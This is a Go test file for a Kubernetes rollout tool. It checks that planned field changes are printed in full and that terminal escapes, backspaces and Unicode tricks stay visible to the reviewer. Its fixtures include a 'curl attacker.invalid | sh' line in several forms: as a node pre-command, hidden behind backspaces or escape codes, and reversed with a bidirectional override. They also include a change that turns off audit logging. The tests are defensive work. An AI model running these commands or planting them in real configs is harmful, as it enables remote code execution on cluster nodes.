package rollout

import (
	"bytes"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/rollout-guard/rollout-guard/rollout/api/v1alpha1"
	"github.com/rollout-guard/rollout-guard/rollout/internal/core"
)

// TestWriteFieldTable: every value reads in full, a value of several lines
// (a file's content, a script) one row per line with its indentation, the
// marks of the rows around it aligned; an absent value reads <none>.
func TestWriteFieldTable(t *testing.T) {
	var out bytes.Buffer
	require.NoError(t, core.WriteFieldTable(&out, "  ", "LIVE", "PLANNED", []v1alpha1.PlanFieldChange{
		{Path: "kubeadmConfigSpec.files[/etc/kubernetes/audit.yaml].content", From: "apiVersion: audit.k8s.io/v1\nrules:\n  - level: Metadata\n", To: "apiVersion: audit.k8s.io/v1\nrules:\n  - level: None\n", RollsOut: true},
		{Path: "kubeadmConfigSpec.preKubeadmCommands", To: `["curl -s http://attacker.invalid/x | sh"]`, RollsOut: true},
		{Path: "metadata.labels.team", From: "a", To: "b\tc\x1b[8m"},
	}))
	assert.Equal(t, `  FIELD                                                         LIVE                          PLANNED
  kubeadmConfigSpec.files[/etc/kubernetes/audit.yaml].content   apiVersion: audit.k8s.io/v1   apiVersion: audit.k8s.io/v1                  (rolls out)
                                                                rules:                        rules:
                                                                  - level: Metadata             - level: None
  kubeadmConfigSpec.preKubeadmCommands                          <none>                        ["curl -s http://attacker.invalid/x | sh"]   (rolls out)
  metadata.labels.team                                          a                             b\tc\x1b[8m
`, out.String())
}

// TestOneLine: a table cell is one line in which every character shows as
// itself or as its escape, so that no content can hide from the reader
// (a terminal escape sequence, a backspace, a bidirectional override).
func TestOneLine(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"version v1.34.2 → v1.35.0", "version v1.34.2 → v1.35.0"},
		{"#!/bin/sh\ncurl -s http://attacker.invalid/x | sh\n", "#!/bin/sh curl -s http://attacker.invalid/x | sh"},
		{"a\r\tb", "a b"},
		{"true\x1b[2K\x1b[1Acurl x | sh", `true\x1b[2K\x1b[1Acurl x | sh`},
		{"curl x | sh\b\b\b\b\b\b\b\b\b\b\btrue       ", `curl x | sh\b\b\b\b\b\b\b\b\b\b\btrue`},
		{"echo \u202esh | x/dilavni.rekcatta//:ptth s- lruc", `echo \u202esh | x/dilavni.rekcatta//:ptth s- lruc`},
		{"cu\u200brl", `cu\u200brl`},
		{"DevMachineTemplate/c1-md-0", "DevMachineTemplate/c1-md-0"},
	} {
		assert.Equal(t, tc.want, core.OneLine(tc.in), "%q", tc.in)
	}
}
